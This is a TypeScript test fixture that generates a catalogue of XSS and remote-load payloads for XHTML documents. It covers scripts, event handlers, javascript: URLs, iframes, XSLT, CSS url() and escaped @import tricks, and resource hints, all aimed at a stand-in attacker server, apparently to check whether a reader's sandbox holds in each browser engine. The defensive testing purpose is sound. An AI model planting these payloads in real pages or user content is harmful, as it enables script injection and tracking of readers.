import type { EngineKind } from './page.ts';

/**
 * URLs and code for building an attack: the attacker's server, and scripts whose execution is
 * observable.
 */
export interface Payload {
  /** URL on the attacker's server that identifies the attack. */
  attackerUrl: string;
  /** A port of the attacker that only resource hints connect to. */
  hintedUrl: string;
  /** A host name that only resource hints resolve. */
  unknownHost: string;
  /**
   * JavaScript without characters that XML escapes; marks the top window and calls the attacker.
   */
  act: string;
  /** The same without a top window: only calls the attacker. */
  call: string;
}

/** One attack that a book can attempt. */
export interface Attack {
  name: string;
  markup: (payload: Payload) => string;
  /** Position of the markup; default: body. */
  at?: 'prolog' | 'head' | 'body';
  /** Triggered by a click on its first element with `data-click`. */
  isClicked?: true;
  /** Affects the whole window or is held up by others, so it is tested on a page of its own. */
  isAlone?: true;
  /** Engines in which the control run does not expect an effect, with the reason. */
  ineffectiveIn?: Partial<Record<EngineKind['name'], string>>;
}

/** Files beside the text, by name. */
export const hostileFiles = ({
  act,
  call,
  attackerUrl,
}: Payload): Record<string, [string, string]> => ({
  'own.js': ['text/javascript', act],
  'module.js': ['text/javascript', act],
  'worker.js': ['text/javascript', call],
  'page.xhtml': ['application/xhtml+xml', `${html}<body><script>${act}</script></body></html>`],
  'drawing.svg': [
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${act}</script></svg>`,
  ],
  'style.css': ['text/css', `@import "${attackerUrl}";`],
  'dot.svg': ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'],
  'sheet.xsl': [
    'application/xslt+xml',
    `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${html}<body><script>${act}</script></body></html></xsl:template></xsl:stylesheet>`,
  ],
});

export const html = '<html xmlns="http://www.w3.org/1999/xhtml">';
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="20" ${attributes}>${inside}</svg>`;
const label = '<text y="15">draw</text>';
const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const data = (type: string, text: string) => `data:${type},${encodeURIComponent(text)}`;

const scripts: Attack[] = [
  { name: 'inline', markup: ({ act }) => `<script>${act}</script>` },
  { name: 'in-head', at: 'head', markup: ({ act }) => `<script>${act}</script>` },
  { name: 'own-file', markup: () => '<script src="own.js"></script>' },
  {
    name: 'of-the-attacker',
    markup: ({ attackerUrl }) => `<script src="${attackerUrl}"></script>`,
  },
  {
    name: 'module',
    markup: ({ act }) => `<script type="module" async="">${act}</script>`,
    ineffectiveIn: { WebKit: 'WebKit runs no modules in XHTML' },
  },
  {
    name: 'import-map',
    markup: () =>
      '<script type="importmap">{"imports":{"evil":"./module.js"}}</script><script type="module" async="">import "evil";</script>',
    ineffectiveIn: { WebKit: 'WebKit runs no modules in XHTML' },
  },
  { name: 'svg-script', markup: ({ act }) => svg(`<script>${act}</script>`) },
  { name: 'data-script', markup: ({ act }) => `<script src="${data('text/javascript', act)}"/>` },
  {
    name: 'foreign-object',
    markup: ({ act }) =>
      svg(
        `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${act}</script></body></foreignObject>`,
      ),
  },
  {
    name: 'worker',
    markup: () => '<script>new Worker(new URL("worker.js", document.baseURI))</script>',
  },
  {
    name: 'shared-worker',
    markup: () => '<script>new SharedWorker(new URL("worker.js", document.baseURI))</script>',
  },
  {
    name: 'service-worker',
    markup: ({ act }) =>
      `<script>navigator.serviceWorker.register(new URL("worker.js", document.baseURI)).then(() =&gt; {${act}})</script>`,
  },
  {
    name: 'speculation-rules',
    isAlone: true,
    markup: ({ attackerUrl }) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${attackerUrl}"],"eagerness":"immediate"}]}</script>`,
    ineffectiveIn: {
      Firefox: 'Firefox has no speculation rules',
      WebKit: 'WebKit has no speculation rules',
    },
  },
];

const handlers: Attack[] = [
  { name: 'onload', markup: ({ act }) => `<img src="dot.svg" alt="" onload="${act}"/>` },
  { name: 'onerror', markup: ({ act }) => `<img src="none.png" alt="" onerror="${act}"/>` },
  {
    name: 'onclick',
    isClicked: true,
    markup: ({ act }) => `<p data-click="" onclick="${act}">p</p>`,
  },
  { name: 'onfocus', markup: ({ act }) => `<input autofocus="" onfocus="${act}"/>`, isAlone: true },
  { name: 'ontoggle', markup: ({ act }) => `<details open="" ontoggle="${act}">d</details>` },
  {
    name: 'onanimationstart',
    markup: ({ act }) =>
      `<style>@keyframes k { to { opacity: 0.5 } }</style><p style="animation: k 1s" onanimationstart="${act}">a</p>`,
  },
  { name: 'svg-onload', markup: ({ act }) => svg('', `onload="${act}"`) },
  {
    name: 'svg-onbegin',
    markup: ({ act }) =>
      svg(
        `<rect width="1" height="1"><animate attributeName="x" dur="1s" onbegin="${act}"/></rect>`,
      ),
  },
  {
    name: 'mathml-onclick',
    isClicked: true,
    markup: ({ act }) =>
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mi data-click="" onclick="${act}">x</mi></math>`,
  },
];

const scriptAddresses: Attack[] = [
  {
    name: 'link',
    isClicked: true,
    markup: ({ act }) => `<a data-click="" href="javascript:${act}">a</a>`,
  },
  {
    name: 'area',
    isClicked: true,
    markup: ({ act }) =>
      `<img src="dot.svg" usemap="#m" alt=""/><map name="m"><area data-click="" attack="default" href="javascript:${act}" alt=""/></map>`,
  },
  {
    name: 'svg-link',
    isClicked: true,
    markup: ({ act }) => svg(`<a xlink:href="javascript:${act}" data-click="">${label}</a>`),
  },
  {
    name: 'svg-set-link',
    isClicked: true,
    markup: ({ act }) =>
      svg(`<a data-click=""><set attributeName="href" to="javascript:${act}"/>${label}</a>`),
  },
  {
    name: 'mathml-link',
    isClicked: true,
    markup: ({ act }) =>
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext data-click="" href="javascript:${act}">x</mtext></math>`,
    ineffectiveIn: { Chromium: 'Chromium has no links in MathML' },
  },
  { name: 'frame-address', markup: ({ act }) => `<iframe src="javascript:${act}"></iframe>` },
  {
    name: 'form-address',
    isClicked: true,
    markup: ({ act }) => `<form action="javascript:${act}"><button data-click="">b</button></form>`,
  },
  {
    name: 'button-address',
    isClicked: true,
    markup: ({ act }) =>
      `<form><button data-click="" formaction="javascript:${act}">b</button></form>`,
  },
];

const documents: Attack[] = [
  { name: 'frame', markup: () => '<iframe src="page.xhtml"></iframe>' },
  {
    name: 'frame-of-the-attacker',
    markup: ({ attackerUrl }) => `<iframe src="${attackerUrl}"></iframe>`,
  },
  {
    name: 'srcdoc',
    markup: ({ act }) => `<iframe srcdoc="${escaped(`<script>${act}</script>`)}"></iframe>`,
  },
  {
    name: 'data-frame',
    markup: ({ call }) =>
      `<iframe src="${data('text/html', `<script>${call}</script>`)}"></iframe>`,
  },
  { name: 'object', markup: () => '<object type="image/svg+xml" data="drawing.svg"></object>' },
  {
    name: 'object-of-the-attacker',
    markup: ({ attackerUrl }) => `<object data="${attackerUrl}"></object>`,
  },
  { name: 'embed', markup: () => '<embed type="image/svg+xml" src="drawing.svg"/>' },
  {
    name: 'xslt',
    at: 'prolog',
    isAlone: true,
    markup: () => '<?xml-stylesheet type="text/xsl" href="sheet.xsl"?>',
  },
  {
    name: 'refresh',
    at: 'head',
    markup: ({ attackerUrl }) => `<meta http-equiv="refresh" content="0;url=${attackerUrl}"/>`,
  },
  {
    name: 'base',
    at: 'head',
    markup: ({ attackerUrl }) =>
      `<base href="${attackerUrl}/"/><link rel="stylesheet" href="below.css"/>`,
  },
  {
    name: 'form',
    isClicked: true,
    markup: ({ attackerUrl }) =>
      `<form action="${attackerUrl}"><button data-click="">b</button></form>`,
  },
  {
    name: 'link-on-top',
    isClicked: true,
    isAlone: true,
    markup: ({ attackerUrl }) => `<a data-click="" target="_top" href="${attackerUrl}">a</a>`,
  },
  {
    name: 'link-away',
    isClicked: true,
    markup: ({ attackerUrl }) => `<a data-click="" href="${attackerUrl}">a</a>`,
  },
];

const css = (name: string, text: (payload: Payload) => string): Attack => ({
  name: `css-${name}`,
  markup: (payload) => `<style>${text(payload)}</style><p class="${name}">css</p>`,
});

const loads: Attack[] = [
  {
    name: 'sheet',
    at: 'head',
    markup: ({ attackerUrl }) => `<link rel="stylesheet" href="${attackerUrl}"/>`,
  },
  {
    name: 'sheet-of-prolog',
    at: 'prolog',
    markup: ({ attackerUrl }) => `<?xml-stylesheet type="text/css" href="${attackerUrl}"?>`,
  },
  {
    name: 'sheet-that-imports',
    at: 'head',
    markup: () => '<link rel="stylesheet" href="style.css"/>',
  },
  css('import', ({ attackerUrl }) => `@import "${attackerUrl}";`),
  css('url', ({ attackerUrl }) => `.url { background: url("${attackerUrl}") }`),
  css(
    'image-set',
    ({ attackerUrl }) => `.image-set { background: image-set("${attackerUrl}" 1x) }`,
  ),
  css('content', ({ attackerUrl }) => `.content::before { content: url("${attackerUrl}") }`),
  css(
    'list',
    ({ attackerUrl }) => `.list { display: list-item; list-style-image: url("${attackerUrl}") }`,
  ),
  css('mask', ({ attackerUrl }) => `.mask { mask-image: url("${attackerUrl}") }`),
  css(
    'font',
    ({ attackerUrl }) =>
      `@font-face { font-family: evil; src: url("${attackerUrl}") } .font { font-family: evil }`,
  ),
  css('import-escaped', ({ attackerUrl }) => `@\\69mport/**/url( ${attackerUrl} );`),
  css('url-escaped', ({ attackerUrl }) => `.url-escaped { background: \\75 rl("${attackerUrl}") }`),
  css('unclosed', ({ attackerUrl }) => `.unclosed { background: url("${attackerUrl}`),
  css(
    'property',
    ({ attackerUrl }) => `.property { --a: "${attackerUrl}"; background: image-set(var(--a) 1x) }`,
  ),
  {
    name: 'svg-attribute',
    markup: ({ attackerUrl }) => svg(`<rect width="9" height="9" mask="url(${attackerUrl}#a)"/>`),
  },
  {
    name: 'svg-animated',
    markup: ({ attackerUrl }) =>
      svg(
        `<rect width="9" height="9"><set attributeName="mask" to="url(${attackerUrl}#a)"/></rect>`,
      ),
  },
  {
    name: 'style-attribute',
    markup: ({ attackerUrl }) => `<p style="background: url('${attackerUrl}')">p</p>`,
  },
  { name: 'picture', markup: ({ attackerUrl }) => `<img src="${attackerUrl}" alt=""/>` },
  { name: 'picture-set', markup: ({ attackerUrl }) => `<img srcset="${attackerUrl} 1x" alt=""/>` },
  {
    name: 'svg-image',
    markup: ({ attackerUrl }) => svg(`<image href="${attackerUrl}" width="9" height="9"/>`),
  },
  { name: 'poster', markup: ({ attackerUrl }) => `<video poster="${attackerUrl}"></video>` },
  {
    name: 'video',
    markup: ({ attackerUrl }) => `<video preload="auto" src="${attackerUrl}"></video>`,
  },
  {
    name: 'audio',
    markup: ({ attackerUrl }) => `<audio preload="auto" src="${attackerUrl}"></audio>`,
  },
  {
    name: 'input',
    markup: ({ attackerUrl }) => `<input type="image" src="${attackerUrl}" alt=""/>`,
  },
  {
    name: 'table-background',
    markup: ({ attackerUrl }) => `<table background="${attackerUrl}"><tr><td>t</td></tr></table>`,
  },
  {
    name: 'ping',
    isClicked: true,
    // Firefox sends pings after other requests of the page, and drops those that wait 10 s.
    isAlone: true,
    markup: ({ attackerUrl }) => `<a data-click="" href="page.xhtml" ping="${attackerUrl}">a</a>`,
  },
];

const hint = (rel: string, more = ''): Attack => ({
  name: rel,
  at: 'head',
  markup: ({ attackerUrl }) => `<link rel="${rel}" ${more} href="${attackerUrl}"/>`,
});

const hints: Attack[] = [
  {
    ...hint('prefetch'),
    ineffectiveIn: {
      Firefox: 'Firefox fetches ahead only while it has nothing else to do',
      WebKit: 'WebKit has no prefetch unless told to',
    },
  },
  hint('preload', 'as="image"'),
  hint('modulepreload'),
  {
    name: 'preconnect',
    at: 'head',
    markup: ({ hintedUrl }) => `<link rel="preconnect" href="${hintedUrl}"/>`,
    ineffectiveIn: { Chromium: 'Chromium without a window takes no hints' },
  },
];

export const attacks: readonly Attack[] = [
  ...scripts,
  ...handlers,
  ...scriptAddresses,
  ...documents,
  ...loads,
  ...hints,
];

const silentAddresses = [
  ...[
    'img src',
    'img srcset',
    'img longdesc',
    'input type="image" src',
    'video src',
    'video poster',
  ],
  ...[
    'audio src',
    'source src',
    'track src',
    'object data',
    'embed src',
    'link rel="stylesheet" href',
  ],
  ...['table background', 'q cite', 'blockquote cite', 'ins cite', 'del cite', 'script src'],
];

/**
 * Attacks that no current engine runs, or that tests cannot observe: `javascript:` in all other URL
 * attributes, and DNS prefetch. They are part of every hostile text in case a later engine runs
 * them.
 */
export const silentMarkup = ({ act, unknownHost }: Payload): Record<'head' | 'body', string> => ({
  head: `<link rel="dns-prefetch" href="http://${unknownHost}/"/>`,
  body: [
    ...silentAddresses.map(
      (address) => `<${address}="javascript:${act}"></${address.split(' ')[0] ?? ''}>`,
    ),
    // Depends on whether the click hits the animation, so not every run triggers it.
    svg(
      `<a data-click=""><animate attributeName="href" values="javascript:${act}" dur="1s" fill="freeze"/>${label}</a>`,
    ),
  ].join('\n'),
});
